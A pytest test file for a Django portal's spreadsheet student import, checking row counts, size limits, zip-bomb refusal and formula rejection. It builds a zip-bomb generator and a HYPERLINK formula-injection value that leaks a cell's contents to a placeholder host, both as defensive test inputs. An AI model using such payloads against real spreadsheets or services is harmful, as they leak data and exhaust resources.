"""An import reads every row, whatever size the sheet declares, within limits set as settings; a file
too large, too long or that unpacks to far more than it weighs is refused before anything is written
(and a "zip bomb" before it is unpacked); a formula is a bad value of its line like any other."""

import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError

from friendship_portal.core.imports import import_start
from friendship_portal.core.models import Job
from scholarships.imports import STUDENT_IMPORT
from scholarships.models import Student
from tests.scholarships.support import HEADERS, people, row, upload, xlsx

State = Job.State


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def run(cast, django_capture_on_commit_callbacks):
    def start(content: bytes) -> Job:
        with django_capture_on_commit_callbacks(execute=True):
            job = import_start(kind=STUDENT_IMPORT.kind, upload=upload(content), actor=cast.staff)
        job.refresh_from_db()
        return job

    return start


def with_declared_size(content: bytes, ref: str) -> bytes:
    """The same workbook whose first sheet declares another size, as some programs leave it."""
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref.encode() + b'"', data)
            out.writestr(item, data)
    return target.getvalue()


def test_a_stale_declared_size_drops_no_row(run):
    content = with_declared_size(xlsx(people(5)), "A1:S3")

    job = run(content)

    assert job.state == State.DONE, job.errors
    assert (job.created_count, job.params["rows_found"]) == (5, 5)
    assert Student.objects.count() == 5


def test_the_rows_found_are_shown_on_the_job_page(cast, login, run):
    job = run(xlsx(people(4)))

    response = login(cast.staff).get(f"/imports/{job.pk}/")

    assert 'data-testid="rows-found"' in response.content.decode()
    assert "4" in response.content.decode().split('data-testid="rows-found"')[1][:200]


def test_too_many_rows_are_refused_and_nothing_is_written(run, settings):
    settings.IMPORT_MAX_ROWS = 3

    job = run(xlsx(people(5)))

    assert job.state == State.REFUSED
    assert "3" in job.errors[0]["messages"][0]
    assert not Student.objects.exists()


def test_a_file_too_large_is_refused_at_once(cast, settings):
    settings.IMPORT_MAX_MB = 0

    with pytest.raises(ValidationError) as refused:
        import_start(kind=STUDENT_IMPORT.kind, upload=upload(xlsx(people(1))), actor=cast.staff)

    assert "MB" in refused.value.messages[0]
    assert not Job.objects.exists()


def zip_bomb(unpacked_mb: int = 120) -> bytes:
    """A small file that says it is a workbook and unpacks to `unpacked_mb` MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(cast, monkeypatch):
    content = zip_bomb()
    assert len(content) < 1024 * 1024  # it weighs little

    def unpacking(*args, **kwargs):
        raise AssertionError("the file was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", unpacking)
    monkeypatch.setattr(zipfile.ZipFile, "read", unpacking)
    with pytest.raises(ValidationError) as refused:
        import_start(kind=STUDENT_IMPORT.kind, upload=upload(content), actor=cast.staff)

    assert "MB" in refused.value.messages[0]
    assert not Job.objects.exists()


def test_a_formula_is_a_bad_value_of_its_line_with_its_column(run):
    rows = [row(), row(passport_number="P7000002", full_name='=HYPERLINK("http://x.example/?"&B3,"Bấm")')]

    job = run(xlsx(rows))

    assert job.state == State.REFUSED
    assert [error["line"] for error in job.errors] == [3]
    assert job.errors[0]["messages"][0].startswith(HEADERS["full_name"] + ":")
    assert not Student.objects.exists()
